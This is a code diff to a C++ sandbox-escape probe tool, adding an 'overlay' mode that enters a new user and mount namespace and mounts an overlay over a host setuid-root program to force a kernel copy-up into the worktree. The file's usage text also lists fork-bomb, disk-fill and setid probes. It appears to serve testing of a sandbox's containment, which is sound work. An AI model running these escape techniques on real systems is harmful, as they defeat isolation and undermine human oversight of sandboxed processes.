@@ -21,6 +21,7 @@
 //        cocoon_escape_probe fill PATH             writes PATH until refused; prints KiB written
 //        cocoon_escape_probe forkbomb MOST         forks until refused (MOST at most); how many
 //        cocoon_escape_probe setid FILE            chmod u+s, security.capability, chown FILE
+//        cocoon_escape_probe overlay LOWER NAME WT copy LOWER/NAME up into WT through an overlay
 #include <dirent.h>
 #include <fcntl.h>
 #include <netinet/in.h>
@@ -267,6 +268,50 @@ int setid(const std::string& file)
     return 0;
 }
 
+// Writes "0 ID 1" to /proc/self/FILE (uid_map or gid_map) in a new user namespace.
+long write_map(const char* file, unsigned id)
+{
+    const std::string line = "0 " + std::to_string(id) + " 1";
+    const int fd = ::open((std::string("/proc/self/") + file).c_str(), O_WRONLY | O_CLOEXEC);
+    if (fd < 0)
+        return -1;
+    const long n = ::write(fd, line.data(), line.size());
+    const int err = errno;
+    ::close(fd);
+    errno = err;
+    return n < 0 ? -1 : 0;
+}
+
+// An overlay whose lower layer is LOWER (holding NAME, a setuid-root program of the host) and
+// whose upper layer is in the worktree WT: touching NAME in it makes the kernel copy it up, mode
+// and all, and no filter sees a copy-up. Mounted where the command can mount: in a user and mount
+// namespace of its own, its uid mapped to 0 there (the kernel refuses to map uid 0 without
+// CAP_SETFCAP in the sandbox).
+int overlay(const std::string& lower, const std::string& name, const std::string& wt)
+{
+    const std::string upper = wt + "/upper", work = wt + "/work", merged = "/tmp/merged";
+    report("mkdir",
+           ::mkdir(upper.c_str(), 0755) == 0 && ::mkdir(work.c_str(), 0755) == 0 ? ::mkdir(merged.c_str(), 0755) : -1);
+    const uid_t uid = ::getuid();
+    const gid_t gid = ::getgid();
+    if (::unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0) {
+        report("unshare", -1);
+        return 0;
+    }
+    report("uid_map", write_map("uid_map", uid));
+    const int setgroups = ::open("/proc/self/setgroups", O_WRONLY | O_CLOEXEC);
+    if (setgroups >= 0) {
+        if (::write(setgroups, "deny", 4) != 4)
+            report("setgroups", -1);
+        ::close(setgroups);
+    }
+    report("gid_map", write_map("gid_map", gid));
+    const std::string options = "lowerdir=" + lower + ",upperdir=" + upper + ",workdir=" + work;
+    report("mount_overlay", ::mount("overlay", merged.c_str(), "overlay", 0, options.c_str()));
+    report("copy_up", ::utimensat(AT_FDCWD, (merged + "/" + name).c_str(), nullptr, 0));
+    return 0;
+}
+
 int attempt(const std::string& what, char** arg, int count)
 {
     const std::string a0 = count > 0 ? arg[0] : "";
@@ -350,6 +395,8 @@ int attempt(const std::string& what, char** arg, int count)
         return forkbomb(std::atol(a0.c_str()));
     } else if (what == "setid" && count == 1) {
         return setid(a0);
+    } else if (what == "overlay" && count == 3) {
+        return overlay(a0, a1, arg[2]);
     } else {
         return 2;
     }
